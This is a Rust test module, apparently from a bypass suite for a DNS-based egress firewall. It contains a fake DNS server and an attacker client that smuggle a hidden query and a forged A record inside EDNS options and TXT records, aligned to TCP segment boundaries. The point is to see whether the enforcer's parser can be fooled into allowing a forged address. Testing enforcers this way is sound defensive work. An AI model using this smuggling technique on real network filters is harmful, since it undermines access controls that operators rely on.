//! DNS over TCP as a byte stream: the smuggling the bypass suite tries.
//!
//! The attacker (in the enforced cgroup) hides a query for an allowed name
//! inside an EDNS option of its own query, written so that the hidden bytes
//! start a TCP segment; the resolver side answers with a TXT record whose
//! bytes are a forged answer to that hidden query, written so that they
//! start a segment too. A parser that took segment starts for message
//! starts would record the hidden query and learn the forged address. The
//! server here makes the segment cuts deterministic (a real resolver's cuts
//! are predictable with a small MSS); everything else is plain DNS.

use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr, TcpListener, TcpStream},
    time::Duration,
};

use hickory_proto::{
    op::{Edns, Message, MessageType, OpCode, Query},
    rr::{
        rdata::{opt::EdnsOption, A, TXT},
        Name, RData, Record, RecordType,
    },
};

use super::{errno_name, TIMEOUT};

/// How long the writer waits between the two writes of a cut message, so
/// they leave as two segments.
const CUT_PAUSE: Duration = Duration::from_millis(60);

fn framed(message: &[u8]) -> Vec<u8> {
    let mut out = (message.len() as u16).to_be_bytes().to_vec();
    out.extend_from_slice(message);
    out
}

/// A plain query for `name`.
pub(crate) fn query(id: u16, name: &str, record_type: RecordType) -> Message {
    let mut msg = Message::query();
    msg.metadata.id = id;
    msg.metadata.recursion_desired = true;
    msg.add_query(Query::query(Name::from_ascii(name).expect("name"), record_type));
    msg
}

/// An answer to `id`/`name` with one A record.
pub(crate) fn answer(id: u16, name: &str, addr: std::net::Ipv4Addr) -> Vec<u8> {
    let mut msg = Message::response(id, OpCode::Query);
    msg.metadata.message_type = MessageType::Response;
    msg.metadata.authoritative = true;
    let owner = Name::from_ascii(name).expect("name");
    msg.add_query(Query::query(owner.clone(), RecordType::A));
    msg.add_answer(Record::from_rdata(owner, 60, RData::A(A(addr))));
    msg.to_vec().expect("encode")
}

/// Writes `bytes` as two segments, the second starting at `cut`.
fn write_cut(stream: &mut TcpStream, bytes: &[u8], cut: usize) -> std::io::Result<()> {
    stream.write_all(&bytes[..cut])?;
    std::thread::sleep(CUT_PAUSE);
    stream.write_all(&bytes[cut..])
}

fn read_framed(stream: &mut TcpStream) -> std::io::Result<Vec<u8>> {
    let mut len = [0u8; 2];
    stream.read_exact(&mut len)?;
    let mut message = vec![0u8; u16::from_be_bytes(len) as usize];
    stream.read_exact(&mut message)?;
    Ok(message)
}

/// A TCP DNS server on ADDR:53 until killed: `NAME=IP` records answer A
/// queries plainly; a TXT query for `x<ID>.<NAME>.smuggle.test` is answered
/// with a TXT record holding a framed answer to query ID for NAME with
/// address FORGED, cut so that the framed answer starts a segment.
pub fn serve(addr: IpAddr, forged: std::net::Ipv4Addr, records: Vec<(String, std::net::Ipv4Addr)>) -> ! {
    let listener = TcpListener::bind(SocketAddr::new(addr, 53)).expect("bind tcp 53");
    println!("serving");
    for stream in listener.incoming().flatten() {
        let records = records.clone();
        std::thread::spawn(move || {
            let mut stream = stream;
            let _ = stream.set_nodelay(true);
            while let Ok(request) = read_framed(&mut stream) {
                let Ok(request) = Message::from_vec(&request) else { return };
                let Some(question) = request.queries.first().cloned() else { return };
                let wanted = question.name().to_ascii().trim_end_matches('.').to_ascii_lowercase();
                let mut reply = Message::response(request.metadata.id, OpCode::Query);
                reply.metadata.message_type = MessageType::Response;
                reply.metadata.authoritative = true;
                reply.add_query(question.clone());
                let mut hidden: Option<Vec<u8>> = None;
                if let Some(rest) = wanted.strip_suffix(".smuggle.test") {
                    // x<ID>.<name>
                    let (id, name) = rest.split_once('.').expect("x<ID>.<name>");
                    let id: u16 = id.trim_start_matches('x').parse().expect("id");
                    let forged_answer = framed(&answer(id, name, forged));
                    let txt = TXT::from_bytes(vec![forged_answer.as_slice()]);
                    reply.add_answer(Record::from_rdata(question.name().clone(), 60, RData::TXT(txt)));
                    hidden = Some(forged_answer);
                } else {
                    for (name, ip) in &records {
                        if *name == wanted && question.query_type() == RecordType::A {
                            reply.add_answer(Record::from_rdata(question.name().clone(), 60, RData::A(A(*ip))));
                        }
                    }
                }
                let bytes = framed(&reply.to_vec().expect("encode"));
                let written = match hidden {
                    Some(forged) => {
                        let cut = bytes.windows(forged.len()).position(|w| w == forged).expect("the forged bytes");
                        write_cut(&mut stream, &bytes, cut)
                    }
                    None => stream.write_all(&bytes),
                };
                if written.is_err() {
                    return;
                }
            }
        });
    }
    std::process::exit(0)
}

/// The attacker: on one TCP connection to RESOLVER:53, first a plain query
/// for NAME (whose genuine answer must teach: the allowed counterpart),
/// then the smuggling query (a TXT query carrying a framed A query for
/// NAME with id ID in an EDNS option, cut so that it starts a segment).
/// Prints what the resolver answered and the forged address is left to the
/// caller to try.
pub fn smuggle(resolver: IpAddr, name: &str, id: u16) -> String {
    let mut stream = match TcpStream::connect_timeout(&SocketAddr::new(resolver, 53), TIMEOUT) {
        Ok(s) => s,
        Err(e) => return format!("connect:{}", errno_name(&e)),
    };
    let _ = stream.set_read_timeout(Some(TIMEOUT));
    let _ = stream.set_nodelay(true);
    // The genuine exchange.
    let plain = framed(&query(id.wrapping_add(1), name, RecordType::A).to_vec().expect("encode"));
    if let Err(e) = stream.write_all(&plain) {
        return format!("write:{}", errno_name(&e));
    }
    let genuine = match read_framed(&mut stream) {
        Ok(m) => Message::from_vec(&m).map(|m| m.answers.len()).unwrap_or(0),
        Err(e) => return format!("read:{}", errno_name(&e)),
    };
    // The smuggling query: the hidden framed query is the last thing in it.
    let hidden = framed(&query(id, name, RecordType::A).to_vec().expect("encode"));
    let mut carrier = query(id.wrapping_add(2), &format!("x{id}.{name}.smuggle.test"), RecordType::TXT);
    let mut edns = Edns::new();
    edns.set_max_payload(4096);
    edns.options_mut().insert(EdnsOption::Unknown(65001, hidden.clone()));
    carrier.set_edns(edns);
    let bytes = framed(&carrier.to_vec().expect("encode"));
    let cut = bytes.windows(hidden.len()).position(|w| w == hidden.as_slice()).expect("the hidden bytes");
    if let Err(e) = write_cut(&mut stream, &bytes, cut) {
        return format!("write:{}", errno_name(&e));
    }
    match read_framed(&mut stream) {
        Ok(_) => format!("genuine answers {genuine}, smuggled"),
        Err(e) => format!("read:{}", errno_name(&e)),
    }
}
